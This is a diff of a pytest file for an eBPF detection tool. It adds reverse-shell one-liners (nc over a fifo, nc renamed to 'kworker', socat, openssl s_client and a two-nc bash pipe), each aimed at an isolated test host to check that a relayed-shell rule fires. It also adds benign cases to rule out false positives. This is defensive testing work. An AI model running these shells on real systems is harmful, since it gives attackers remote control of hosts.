@@ -10,180 +10,20 @@ and its own trace.
 
 from __future__ import annotations
 
-import os
-import secrets
-import shutil
-import subprocess
 import sys
-import time
 from collections import Counter
-from pathlib import Path
 
 import pytest
 
-from coi_sentinel.probes.cgroups import WorkloadCgroup, cgroup_id
-
-from support import require_bpf
+from detection_lab import fake_home, needs, open_lab
 
 pytestmark = pytest.mark.bpf
-
-TESTHOST = Path(__file__).resolve().parents[2] / "rules" / "tests" / "helpers" / "testhost.py"
-PORTS = (80, 443, 1337, 8443)
-
-
-class Host:
-    """The attacker: helpers/testhost.py in a network namespace joined by a veth pair, on a
-    /30 of the benchmarking range 198.18.0.0/15 (no route leaves the pair)."""
-
-    def __init__(self, www: Path) -> None:
-        tag = secrets.token_hex(3)
-        third = 210 + secrets.randbelow(40)
-        self.ns, self.veth, self.peer = f"coi-dt-{tag}", f"cdt{tag}h", f"cdt{tag}n"
-        self.local, self.addr = f"198.18.{third}.1", f"198.18.{third}.2"
-        self.proc: subprocess.Popen | None = None
-        ip = ["ip"]
-        nsx = ["ip", "netns", "exec", self.ns]
-        for argv in (ip + ["netns", "add", self.ns],
-                     ip + ["link", "add", self.veth, "type", "veth", "peer", "name", self.peer],
-                     ip + ["link", "set", self.peer, "netns", self.ns],
-                     ip + ["addr", "add", f"{self.local}/30", "dev", self.veth],
-                     ip + ["link", "set", self.veth, "up"],
-                     nsx + ["ip", "addr", "add", f"{self.addr}/30", "dev", self.peer],
-                     nsx + ["ip", "link", "set", self.peer, "up"],
-                     nsx + ["ip", "link", "set", "lo", "up"]):
-            subprocess.run(argv, check=True, capture_output=True)
-        self.proc = subprocess.Popen(nsx + [sys.executable, str(TESTHOST), "--www", str(www),
-                                            *map(str, PORTS)], stdout=subprocess.PIPE, text=True)
-        assert self.proc.stdout is not None and self.proc.stdout.readline().strip() == "ready"
-
-    def dial(self, port: int) -> subprocess.Popen:
-        return subprocess.Popen(["ip", "netns", "exec", self.ns, sys.executable, str(TESTHOST),
-                                 "--dial", self.local, str(port)],
-                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-
-    def close(self) -> None:
-        if self.proc is not None:
-            self.proc.terminate()
-            try:
-                self.proc.wait(timeout=5)
-            except subprocess.TimeoutExpired:
-                self.proc.kill()
-                self.proc.wait()
-        subprocess.run(["ip", "link", "del", self.veth], capture_output=True)
-        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)
-
-
-class Lab:
-    """One probe load for the module; a child cgroup, an engine and a trace per case."""
-
-    def __init__(self, parent: WorkloadCgroup, host: Host, root: Path) -> None:
-        from coi_sentinel.monitor import Monitor, MonitorOptions
-        from coi_sentinel.rules import load_ruleset
-
-        self.ruleset = load_ruleset(None)
-        self.parent, self.host, self.root = parent, host, root
-        self.mon = Monitor(MonitorOptions(
-            cgroups=(str(parent.path),), kind="record",
-            sensitive_prefixes=tuple(self.ruleset.sensitive_prefixes()),
-            sensitive_suffixes=tuple(self.ruleset.sensitive_suffixes())))
-        self.mon.start()
-        self.routes: dict[int, tuple] = {}
-        self.mon.pipeline.add_sink(self._route)
-
-    def _route(self, ev, _proc) -> None:
-        target = self.routes.get(ev.cgroup_id)
-        if target is not None:
-            engine, writer = target
-            writer.write_event(ev)
-            engine.feed(ev)
-
-    def run(self, name: str, script: str, *, home: Path, cwd: Path, dial: int | None = None,
-            timeout: float = 60) -> tuple[Counter, Counter, str]:
-        """Run ``bash -c script`` in a cgroup of its own: (live alerts, replayed alerts, output)."""
-        from coi_sentinel.replay import replay
-        from coi_sentinel.rules import Engine
-        from coi_sentinel.trace.format import make_header
-        from coi_sentinel.trace.writer import TraceWriter
-
-        child = self.parent.path / name
-        child.mkdir()
-        trace = self.root / f"{name}.jsonl.gz"
-        alerts: list = []
-        engine = Engine(self.ruleset, on_alert=alerts.append)
-        writer = TraceWriter(str(trace), make_header("record", command=["bash", "-c", script]),
-                             overwrite=True)
-        self.routes[cgroup_id(child)] = (engine, writer)
-        procs = child / "cgroup.procs"
-
-        def enter() -> None:
-            with open(procs, "w") as f:
-                f.write(str(os.getpid()))
-
-        env = {"PATH": "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin",
-               "HOME": str(home), "LANG": "C.UTF-8", "HOST": self.host.addr,
-               "LOCAL": self.host.local, "ATK": f"http://{self.host.addr}:80",
-               "npm_config_offline": "true", "npm_config_update_notifier": "false",
-               "GIT_CONFIG_NOSYSTEM": "1"}
-        try:
-            p = subprocess.Popen(["/bin/bash", "-c", script], cwd=cwd, env=env,
-                                 stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
-                                 stderr=subprocess.STDOUT, preexec_fn=enter)
-            dialer = self.host.dial(dial) if dial else None
-            deadline = time.monotonic() + timeout
-            while time.monotonic() < deadline:
-                self.mon.poll(10)
-                if p.poll() is not None and not procs.read_text().split():
-                    break
-            else:
-                (child / "cgroup.kill").write_text("1\n")
-                pytest.fail(f"{name}: still running after {timeout} s")
-            out = p.stdout.read().decode(errors="replace") if p.stdout else ""
-            if dialer is not None:
-                dialer.wait(timeout=20)
-            end = time.monotonic() + 1.0
-            while time.monotonic() < end:           # the exits' late summaries
-                self.mon.poll(20)
-            self.mon.stream.drain()
-        finally:
-            del self.routes[cgroup_id(child)]
-            writer.close({"events": 0})
-            for _ in range(50):
-                try:
-                    child.rmdir()
-                    break
-                except OSError:
-                    time.sleep(0.1)
-        live = Counter(a.rule for a in alerts)
-        replayed = Counter(replay([trace], self.ruleset).by_rule)
-        return live, replayed, out
-
-    def family(self, rule: str) -> str:
-        return Path(self.ruleset.rule(rule).rule.source.path).stem
-
-    def close(self) -> None:
-        self.mon.close()
 
 
 @pytest.fixture(scope="module")
 def lab(tmp_path_factory):
-    require_bpf()
-    if shutil.which("ip") is None:
-        pytest.skip("needs the ip command (iproute2) for the test host's network namespace")
-    root = tmp_path_factory.mktemp("detection")
-    www = root / "www"
-    www.mkdir()
-    shutil.copy("/bin/true", www / "tool")
-    (www / "run.sh").write_text("#!/bin/sh\necho payload ran\n")
-    host = Host(www)
-    try:
-        with WorkloadCgroup("coi-detect") as parent:
-            lb = Lab(parent, host, root)
-            try:
-                yield lb
-            finally:
-                lb.close()
-    finally:
-        host.close()
+    with open_lab(tmp_path_factory.mktemp("detection"), "coi-detect") as lb:
+        yield lb
 
 
 @pytest.fixture
@@ -198,22 +38,7 @@ def home(tmp_path):
         "project/.env.example": "API_KEY=\n",
         "project/.github/workflows/ci.yml": "on: push\n",
     }
-    for rel, text in files.items():
-        p = tmp_path / rel
-        p.parent.mkdir(parents=True, exist_ok=True)
-        p.write_text(text)
-    env = {**os.environ, "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
-    proj = tmp_path / "project"
-    for argv in (["git", "init", "-q"], ["git", "add", "-A"],
-                 ["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "init"]):
-        subprocess.run(argv, cwd=proj, env=env, check=True)
-    return tmp_path
-
-
-def needs(*programs: str) -> None:
-    missing = [p for p in programs if shutil.which(p) is None]
-    if missing:
-        pytest.skip(f"needs {', '.join(missing)} (scripts/setup.sh corpus)")
+    return fake_home(tmp_path, files)
 
 
 # (name, programs, script, the family whose rule must fire, dial port)
@@ -277,6 +102,34 @@ def test_missed_class_is_caught_live_and_in_its_trace(lab, home, name, programs,
     assert replayed == live
 
 
+#: relayed shells: the shell never has the socket, a helper does; the kernel's pipe, fifo and
+#: pty records must link them (shell_relayed_through_pipe_to_socket), whatever the names
+RELAYS = [
+    ("nc_fifo_relay", ("nc", "mkfifo"),
+     "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | timeout 20 nc -N $HOST 443 > f; rm -f f"),
+    ("nc_fifo_renamed", ("nc", "mkfifo"),
+     "rm -f f; mkfifo f; cp $(command -v nc) ./kworker; cat f | /bin/sh -i 2>&1 "
+     "| timeout 20 ./kworker -N $HOST 1337 > f; rm -f f kworker"),
+    ("socat_pty", ("socat",),
+     "timeout 20 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$HOST:443 || true"),
+    ("openssl_relay", ("openssl", "mkfifo"),
+     "rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | timeout 10 openssl s_client -quiet -connect $HOST:8443 "
+     "> s 2>/dev/null || true; rm -f s"),
+    ("bash_pipes_two_nc", ("nc",),
+     "timeout 20 nc $HOST 443 | /bin/bash | timeout 20 nc $HOST 80 > /dev/null || true"),
+]
+
+
+@pytest.mark.parametrize("name, programs, script", RELAYS, ids=[r[0] for r in RELAYS])
+def test_relayed_shell_is_linked_through_its_pipes_live(lab, home, name, programs, script):
+    needs(*programs)
+    work = home / "work"
+    work.mkdir()
+    live, replayed, out = lab.run(name, script, home=home, cwd=work)
+    assert live["shell_relayed_through_pipe_to_socket"] == 1, (dict(live), out[-2000:])
+    assert replayed == live
+
+
 BENIGN = [
     ("npm_reads_npmrc", ("npm",), "npm config list > /dev/null"),
     ("cp_r_repository", (), "cp -r ~/project /tmp/$$-copy && rm -rf /tmp/$$-copy"),
@@ -287,6 +140,24 @@ BENIGN = [
     ("venv_in_tmp", (), f"{sys.executable} -m venv --without-pip /tmp/$$-venv && "
                         "/tmp/$$-venv/bin/python -c 'print(1)'; rm -rf /tmp/$$-venv"),
     ("ps_and_top", (), "ps -e > /dev/null; ps auxe > /dev/null; top -b -n 1 > /dev/null"),
+    # a pane records its login in utmp/wtmp through libutempter's setgid helper
+    ("tmux_panes", ("tmux",), "tmux -L t$$ -f /dev/null new-session -d -x 80 -y 24 'sleep 5' && "
+                              "tmux -L t$$ split-window -d 'sleep 5' && sleep 0.5 && tmux -L t$$ kill-server"),
+    # debugging and inspecting one's own programs
+    ("strace_and_gdb_own_child", ("strace", "gdb", "cc"),
+     "strace -f -o /dev/null ls > /dev/null && cd ~/project && printf 'int main(){return 0;}\\n' > m.c && "
+     "cc -g -o m m.c && gdb -q -batch -ex run ./m > /dev/null 2>&1"),
+    ("lsof_and_ss", ("lsof", "ss"), "lsof -nP > /dev/null 2>&1; ss -tlnp > /dev/null"),
+    # keys and certificates made for the project, not taken from anyone
+    ("dev_cert_and_new_ssh_key", ("openssl", "ssh-keygen"),
+     "cd ~/project && openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 1 "
+     "-subj /CN=localhost 2>/dev/null && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_new -C dev"),
+    ("crontab_list_git_config_global", ("crontab", "git"),
+     "crontab -l > /dev/null 2>&1; git config --global user.name dev && "
+     "git config --global init.defaultBranch main"),
+    ("local_dev_server", ("curl",),
+     f"cd ~/project && ({sys.executable} -m http.server 8765 --bind 127.0.0.1 > /dev/null 2>&1 &); "
+     "sleep 1; curl -s http://127.0.0.1:8765/ > /dev/null; pkill -f 'http.server 8765'"),
 ]
 
 
